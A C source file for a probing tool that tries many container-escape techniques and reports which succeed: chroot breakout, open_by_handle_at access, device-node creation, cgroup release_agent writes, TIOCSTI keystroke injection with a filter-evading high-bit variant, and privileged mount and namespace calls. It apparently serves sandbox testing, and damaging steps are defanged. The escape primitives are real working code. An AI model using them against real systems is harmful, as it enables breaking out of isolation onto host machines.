/*
 * attack VERB [ARGUMENT...]: try a way out of a container. For each way one line: its name, and `won`, or why not. What would
 * do harm is only opened, or written as it is. Exit code 0, whatever came of it; 2 on wrong usage.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int told(const char *way, int is_won)
{
	return printf("%s: %s\n", way, is_won ? "won" : strerror(errno)) < 0;
}

/* Each file or directory for writing; nothing is written. */
static int open_all(char **paths)
{
	for (; *paths; paths++) {
		struct stat s;
		int flags = stat(*paths, &s) == 0 && S_ISDIR(s.st_mode) ? O_TMPFILE | O_RDWR : O_WRONLY;
		int fd = open(*paths, flags | O_CLOEXEC | O_NOCTTY | O_NONBLOCK, 0600);
		told(*paths, fd >= 0);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* The first byte of each. */
static int read_all(char **paths)
{
	for (; *paths; paths++) {
		char byte;
		int fd = open(*paths, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
		errno = fd < 0 ? errno : ENODATA;
		told(*paths, fd >= 0 && read(fd, &byte, 1) > 0);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* Calls that are for who administers a machine. Each is done by a process of its own. */
static int call(int number, const char *directory)
{
	char log[64];
	switch (number) {
	case 0: return mount("none", directory, "tmpfs", 0, NULL);
	case 1: return mount("proc", directory, "proc", 0, NULL);
	case 2: return mount("sysfs", directory, "sysfs", 0, NULL);
	case 3: return mount("/", directory, NULL, MS_BIND | MS_REC, NULL);
	case 4: return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	case 5: return umount2("/proc/sys", MNT_DETACH);
	case 6: return syscall(SYS_fsopen, "tmpfs", 0);
	case 7: return syscall(SYS_open_tree, AT_FDCWD, "/", 1);
	case 8: return unshare(CLONE_NEWNS);
	case 9: return unshare(CLONE_NEWUSER | CLONE_NEWNS);
	case 10: return unshare(CLONE_NEWUSER);
	case 11: return klogctl(3, log, sizeof log) < 0 ? -1 : 0;
	case 12: return sethostname("outside", 7);
	default: return syscall(SYS_pivot_root, directory, directory);
	}
}

static int calls(const char *directory)
{
	static const char *const names[] = {"mount of a tmpfs", "mount of proc", "mount of sysfs", "bind mount", "remount",
		"unmount", "fsopen", "open_tree", "unshare of mounts", "unshare of users and mounts", "unshare of users",
		"syslog", "sethostname", "pivot_root"};
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		fflush(stdout);
		if (fork() == 0) {
			told(names[i], call(i, directory) >= 0);
			fflush(stdout);
			_exit(0);
		}
		wait(NULL);
	}
	return 0;
}

/* Out of a root that was changed to by chroot(2) alone: a second one below, and up from where that does not reach. */
static int leave_root(const char *directory, const char *secret)
{
	int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (root < 0 || chroot(directory))
		return told("chroot", 0);
	if (fchdir(root))
		return told("fchdir", 0);
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			return told("chdir", 0);
	return told("second chroot", access(secret + 1, F_OK) == 0);
}

/* The handle of a file, in hexadecimal digits. */
static int print_handle(const char *path)
{
	union {
		struct file_handle handle;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} file = {.handle.handle_bytes = MAX_HANDLE_SZ};
	int mount;
	if (name_to_handle_at(AT_FDCWD, path, &file.handle, &mount, 0))
		return told("handle", 0);
	printf("%d ", file.handle.handle_type);
	for (unsigned i = 0; i < file.handle.handle_bytes; i++)
		printf("%02x", file.handle.f_handle[i]);
	return putchar('\n') < 0;
}

/* Opens a file of the filesystem that a volume is on by its handle, wherever it lies. */
static int open_handle(const char *volume, const char *type, const char *digits)
{
	union {
		struct file_handle handle;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} file = {.handle = {.handle_bytes = strlen(digits) / 2, .handle_type = atoi(type)}};
	for (unsigned i = 0; i < file.handle.handle_bytes; i++) {
		unsigned byte = 0;
		sscanf(digits + 2 * i, "%2x", &byte);
		file.handle.f_handle[i] = byte;
	}
	int mount = open(volume, O_RDONLY | O_CLOEXEC);
	return told("open by handle", mount >= 0 && open_by_handle_at(mount, &file.handle, O_RDONLY) >= 0);
}

/* A device node on every mount that there is and in every directory that is given; wherever it is made it must not open. */
static int make_nodes(const char *number, char **directories)
{
	unsigned major = 0, minor = 0;
	char line[8192], where[4096], path[5000];
	FILE *file = *directories ? NULL : fopen("/proc/self/mountinfo", "r");
	sscanf(number, "%*c:%u:%u", &major, &minor);
	while (file ? fgets(line, sizeof line, file) != NULL : *directories != NULL) {
		if (file ? sscanf(line, "%*s %*s %*s %*s %4095s", where) != 1 : sscanf(*directories++, "%4095s", where) != 1)
			continue;
		snprintf(path, sizeof path, "%s/node.%d", where, getpid());
		if (mknod(path, 0600 | (*number == 'b' ? S_IFBLK : S_IFCHR), makedev(major, minor)))
			continue;
		printf("made in %s\n", where);
		told("device", open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK) >= 0);
		unlink(path);
	}
	return 0;
}

/* An abstract socket (unix(7)) of the same network. */
static int connect_abstract(const char *name)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
	return told("abstract socket", fd >= 0 && !connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}

/* In new user, mount and cgroup namespaces: a hierarchy of version 1, and its release agent, written as it is. */
static int write_release_agent(const char *controller, const char *directory)
{
	char path[5000], text[PATH_MAX];
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) && unshare(CLONE_NEWNS | CLONE_NEWCGROUP))
		return told("namespaces", 0);
	if (mount("cgroup", directory, "cgroup", 0, controller))
		return told("mount of a hierarchy", 0);
	snprintf(path, sizeof path, "%s/release_agent", directory);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
	if (length < 0)
		return told("release agent", 0);
	return told("release agent", pwrite(fd, length ? text : "\n", length ? length : 1, 0) >= 0);
}

/* Signals nobody, but would. */
static int reach_processes(char **numbers)
{
	for (; *numbers; numbers++)
		told("signal", kill(atoi(*numbers), 0) == 0);
	return 0;
}

/* Whatever terminal there is gets TEXT as if typed, and other things that change it. */
static int type_text(const char *text)
{
	static const char *const names[] = {"0", "1", "2", "/dev/tty", "/dev/console"};
	char line[256];
	snprintf(line, sizeof line, "%s\n", text);
	int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC), open("/dev/console", O_RDWR | O_CLOEXEC | O_NOCTTY)};
	for (int i = 0; i < 5; i++) {
		char console = 2, name[64]; /* paste */
		int success = 0, discipline = 0;
		for (const char *byte = line; *byte; byte++)
			success |= ioctl(fds[i], TIOCSTI, byte) == 0;
		snprintf(name, sizeof name, "TIOCSTI %s", names[i]);
		told(name, success);
		success = 0;
		/* The kernel takes the low half of the number only; a filter could look at the whole of it. */
		for (const char *byte = line; *byte; byte++)
			success |= syscall(SYS_ioctl, fds[i], 0x100000000UL | TIOCSTI, byte) == 0;
		snprintf(name, sizeof name, "TIOCSTI with a high bit %s", names[i]);
		told(name, success);
		snprintf(name, sizeof name, "TIOCLINUX %s", names[i]);
		told(name, ioctl(fds[i], TIOCLINUX, &console) == 0);
		snprintf(name, sizeof name, "TIOCSETD %s", names[i]);
		told(name, ioctl(fds[i], TIOCSETD, &discipline) == 0);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";
	char **rest = argv + 2;
	setvbuf(stdout, NULL, _IOFBF, 1 << 16);
	if (!strcmp(verb, "write"))
		return open_all(rest);
	if (!strcmp(verb, "read"))
		return read_all(rest);
	if (!strcmp(verb, "calls") && argc == 3)
		return calls(rest[0]);
	if (!strcmp(verb, "chroot") && argc == 4)
		return leave_root(rest[0], rest[1]);
	if (!strcmp(verb, "handle") && argc == 3)
		return print_handle(rest[0]);
	if (!strcmp(verb, "open-handle") && argc == 5)
		return open_handle(rest[0], rest[1], rest[2]);
	if (!strcmp(verb, "nodes") && argc > 2)
		return make_nodes(rest[0], rest + 1);
	if (!strcmp(verb, "abstract") && argc == 3)
		return connect_abstract(rest[0]);
	if (!strcmp(verb, "agent") && argc == 4)
		return write_release_agent(rest[0], rest[1]);
	if (!strcmp(verb, "signal"))
		return reach_processes(rest);
	if (!strcmp(verb, "type") && argc == 3)
		return type_text(rest[0]);
	fprintf(stderr, "usage: attack write|read|calls|chroot|handle|open-handle|nodes|abstract|agent|signal|type [ARGUMENT...]\n");
	return 2;
}
